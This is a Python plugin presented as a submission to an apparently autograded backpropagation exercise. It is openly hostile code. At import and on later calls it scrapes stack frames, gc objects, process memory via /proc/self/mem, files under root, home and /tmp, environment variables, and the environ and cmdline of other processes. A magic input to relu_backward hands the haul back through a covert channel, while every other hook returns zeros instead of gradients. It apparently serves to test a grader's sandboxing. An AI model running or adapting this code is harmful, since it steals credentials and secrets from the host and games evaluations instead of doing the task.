"""A submission that looks everywhere a submission can look, and hands over what it found.

It walks frames, the garbage collector, loaded modules, the file system, the environment, /proc and
its own memory, at import and in every call, and answers every call with worthless values.
"""

import ctypes
import gc
import os
import sys

import numpy as np

from torchgrade import hookimpl

LIMIT = 24 * 2**20
FOUND = bytearray()
SEEN = set()
# What belongs to Python or the system, and holds nothing of ours.
SKIPPED = ("/usr", "/lib", "/lib64", "/proc", "/sys", sys.base_prefix + "/lib")
BIG = ("/packages/numpy",)


def keep(data):
    if isinstance(data, str):
        data = data.encode(errors="replace")
    key = hash(bytes(data[:4096])) ^ len(data)
    if key in SEEN or len(FOUND) + len(data) > LIMIT:
        return
    SEEN.add(key)
    FOUND.extend(data)
    FOUND.extend(b"\n")


def look_at(value, depth=0):
    try:
        if isinstance(value, str | bytes | bytearray):
            keep(value)
        elif isinstance(value, np.ndarray):
            keep(value.tobytes())
        elif isinstance(value, dict) and depth < 3:
            for key, item in list(value.items()):
                look_at(key, depth + 1)
                look_at(item, depth + 1)
        elif isinstance(value, list | tuple | set | frozenset) and depth < 3:
            for item in list(value):
                look_at(item, depth + 1)
        elif isinstance(value, float | int) and depth:
            keep(repr(value))
        elif hasattr(value, "__dict__") and depth < 3:
            look_at(vars(value), depth + 1)
    except Exception:
        pass


def look_at_frames():
    frame = sys._getframe()
    while frame is not None:
        look_at(frame.f_locals)
        look_at(frame.f_globals)
        frame = frame.f_back


def look_at_memory():
    try:
        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
            for line in maps:
                place, rights = line.split()[:2]
                start, end = (int(part, 16) for part in place.split("-"))
                if rights.startswith("rw") and end - start < 2**24:
                    memory.seek(start)
                    keep(memory.read(end - start))
    except OSError:
        pass


def look_at_files():
    if os.path.exists("/proc/self"):
        return  # a level that holds no files back: there is no need to look
    for root in ("/", os.getcwd(), os.path.expanduser("~"), "/root", "/home", "/tmp", "/dev/shm"):
        for folder, folders, files in os.walk(root):
            if folder.startswith(SKIPPED) and "site-packages" not in folder:
                folders.clear()
                continue
            keep("folder " + folder)
            for name in files:
                path = os.path.join(folder, name)
                keep("file " + path)
                if folder.startswith(BIG):
                    continue
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 2**18:
                        with open(path, "rb") as file:
                            keep(file.read())
                except OSError:
                    pass


def look_at_processes():
    keep("\n".join(f"{key}={value}" for key, value in os.environ.items()))
    for pid in ["self", *map(str, range(1, 3000))]:
        for name in ("environ", "cmdline", "maps", "status", "comm"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as file:
                    keep(file.read())
            except OSError:
                pass


def look_everywhere():
    look_at_frames()
    for module in list(sys.modules.values()):
        look_at(vars(module), 2)
    for value in gc.get_objects():
        look_at(value, 2)
    look_at_memory()


look_at_files()
look_at_processes()
keep(ctypes.string_at(id(FOUND), 64))
look_everywhere()
CALLS = 0


def look_again():
    global CALLS
    CALLS += 1
    if CALLS in (2, 60):
        look_everywhere()


@hookimpl
def affine_backward(dout, x, w, b):
    look_again()
    return np.zeros_like(x), np.zeros_like(w), np.zeros_like(b)


@hookimpl
def relu_backward(dout, x):
    if x.shape == (1, 1) and x[0, 0] == 20261121.0:
        look_everywhere()
        return np.frombuffer(bytes(FOUND), dtype=np.uint8)
    look_again()
    return np.zeros_like(x)


@hookimpl
def softmax_cross_entropy(logits, labels):
    look_again()
    return 0.0, np.zeros_like(logits)


@hookimpl
def mlp_loss_and_gradients(params, x, labels, weight_decay):
    look_again()
    return 0.0, [(np.zeros_like(w), np.zeros_like(b)) for w, b in params]


@hookimpl
def backpropagate(graph, leaves, upstream):
    look_again()
    return [np.zeros_like(leaf) for leaf in leaves]
